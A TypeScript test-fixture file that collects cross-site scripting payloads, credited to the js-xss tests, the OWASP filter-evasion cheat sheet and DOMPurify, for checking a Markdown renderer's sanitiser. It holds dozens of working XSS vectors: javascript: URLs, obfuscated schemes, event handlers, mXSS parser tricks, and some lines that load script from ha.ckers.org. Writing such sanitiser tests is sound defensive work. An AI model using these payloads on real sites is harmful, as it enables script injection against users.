/**
 * Hostile inputs for the Markdown renderer and its sanitiser, from outside the project.
 * Only the inputs are taken (the expected outputs there are those libraries' own); each list names its source.
 */

/**
 * js-xss (the sanitiser used here), test/test_xss.js, case "#XSS_Filter_Evasion_Cheat_Sheet" (MIT licence,
 * https://github.com/leizongmin/js-xss/blob/master/test/test_xss.js), itself taken from the OWASP XSS Filter
 * Evasion Cheat Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).
 */
export const JS_XSS_OWASP_VECTORS: string[] = [
  '></SCRIPT>">\'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  ';!--"<XSS>=&{()}',
  '<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav\nascript:alert(\'XSS\');">',
  '<IMG SRC=java\0script:alert("XSS")>',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=http://ha.ckers.org/xss.js?< B >',
  '<SCRIPT SRC=//ha.ckers.org/.j',
  '<IMG SRC="javascript:alert(\'XSS\')"',
  '<iframe src=http://ha.ckers.org/scriptlet.html <',
  '<a style="url(\'javascript:alert(1)\')">',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:[code]">',
  '<IMG SRC="mocha:[code]">',
  '<a href="javas/**/cript:alert(\'XSS\');">',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<a href="javascript&colon;alert(/xss/)">',
  '<a href="javascript&colonalert(/xss/)">',
  '<a href="a&NewLine;b">',
  '<a href="a&NewLineb">',
  '<a href="javasc&NewLine;ript&colon;alert(1)">',
];

/**
 * DOMPurify, test/fixtures/expect.mjs (Apache-2.0 or MPL-2.0, https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs):
 * the payloads about script URLs, event handlers and parser confusion (mXSS) — the ones that fit a sanitiser
 * whose allow-list has no form, media, SVG, MathML or style.
 */
export const DOMPURIFY_VECTORS: string[] = [
  '<b href="javascript:alert(1)" title="javascript:alert(2)"></b>',
  "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>",
  "123<a href=' javascript:alert(1)'>CLICK</a><a href='&#xA0javascript:alert(1)'>CLICK</a><a href='&#x1680;javascript:alert(1)'>CLICK</a><a href='&#x180E;javascript:alert(1)'>CLICK</a><a href='&#x2000;javascript:alert(1)'>CLICK</a><a href='&#x200B;javascript:alert(1)'>CLICK</a><a href='&#x205f;javascript:alert(1)'>CLICK</a><a href='&#x3000;javascript:alert(1)'>CLICK</a>",
  "<img src='javascript:while(1){}'>",
  '<a href=data:,evilnastystuff>clickme</a>',
  "<form onmouseover='alert(1)'><input name=\"attributes\"><input name=\"attributes\">",
  '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>',
  '<style>*{color: red}</style>',
  '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
  "<img src=x id/=' onerror=alert(1)//'>",
  '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>',
  '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>',
  '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<option><iframe></select><b><script>alert(1)</script>',
  '<b><style><style/><img src=x onerror=alert(1)>',
  '<b><style><style////><img src=x onerror=alert(1)></style>',
  '<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>',
  '<div onmouseout="javascript:alert(/superevr/)" x=yscript: n>@superevr</div>',
  '<button remove=me onmousedown="javascript:alert(1);" onclick="javascript:alert(1)" >@giutro',
  '<a href="javascript:123" onclick="alert(1)">CLICK ME (bypass by @shafigullin)</a>',
  '<input x=javascript: autofocus onfocus=alert(1)><svg id=1 onload=alert(1)></svg>',
  '<form action="javasc\nript:alert(1)"><button>XXX</button></form>',
  '<div id="7"><input onfocus=alert(7) autofocus>//["\'`-->]]>]</div>',
  '<div id="33"><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(33);">XXX</a></a><a href="javascript:alert(2)">XXX</a>//["\'`-->]]>]</div>',
  '<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["\'`-->]]>]</div>',
  '<![><img src="]><img src=x onerror=alert(39)//">',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>//["\'`-->]]>]</div>',
  '<div id="40"><style><img src="</style><img src=x onerror=alert(40)//">//["\'`-->]]>]</div>',
  '<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body>//["\'`-->]]>]</div>',
];
